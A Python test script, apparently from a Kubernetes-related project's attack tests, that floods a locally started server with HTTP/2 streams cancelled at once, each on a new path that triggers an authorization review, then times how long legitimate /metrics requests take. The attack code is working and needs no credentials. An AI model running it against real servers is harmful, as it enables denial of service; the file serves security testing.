#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Anonymous requests that are reset at once; then an authorized user requests /metrics.

Each request has a different path, so that each needs a SubjectAccessReview. The result is how long
the user waits afterwards, whose token and right also need reviews. The attacker needs no
credentials.

    tests/attack/cancelled_reviews.py [--subject kube-scheduler] [--short]
"""

import itertools
import struct
import threading
import time

import serving
from serving import H2, RST_STREAM, Cluster, frame, head, say

CANCEL = struct.pack(">I", 8)


class Attacker(threading.Thread):
    paths = itertools.count()

    def __init__(self, p, ends):
        super().__init__(daemon=True)
        self.p, self.ends, self.sent = p, ends, 0

    def run(self):
        while not self.ends.is_set():
            try:
                conn = H2(self.p)
                conn.take(0.05)
                # All in one piece, so that the server sees them before it can send GOAWAY.
                batch = b""
                for _ in range(min(conn.streams_max, 100)):
                    stream, opening = conn.open(head(f"/a{next(self.paths)}"))
                    batch += opening + frame(RST_STREAM, 0, stream, CANCEL)
                    self.sent += 1
                conn.send(batch)
                conn.take(0.02)
                conn.close()
            except OSError:
                time.sleep(0.05)


def main():
    given = serving.options(__doc__, seconds=(0, "how long; 0: 10, short 4"),
                            threads=(4, "attackers at a time"))
    with Cluster() as c:
        p = serving.start(c, given)
        token = serving.monitor_token(c)
        ends = threading.Event()
        crew = [Attacker(p, ends) for _ in range(given.threads)]
        for a in crew:
            a.start()
        time.sleep(given.seconds or (4 if given.short else 10))
        began = time.monotonic()
        during = serving.time_to_answer(p, "/metrics", limit=30, token=token)
        say(f"during the attack: {during} s")
        time.sleep(max(0, 1 - (time.monotonic() - began)))
        ends.set()
        for a in crew:
            a.join()
        # Another token of the same user: nothing about it is cached.
        token = c.kubectl("create", "token", "monitor").strip()
        after = serving.time_to_answer(p, "/metrics", limit=20 if given.short else 300, token=token)
        stranger = serving.time_to_answer(p, "/nobody", want=403, limit=20 if given.short else 300)
        figures = {
            "requests reset": sum(a.sent for a in crew),
            "/metrics for a user during the attack, s": None if during is None else round(during, 2),
            "/metrics for a user after the attack, s": None if after is None else round(after, 2),
            "403 for an anonymous client after the attack, s":
                None if stranger is None else round(stranger, 2),
        }
    serving.report(given, figures)


if __name__ == "__main__":
    main()
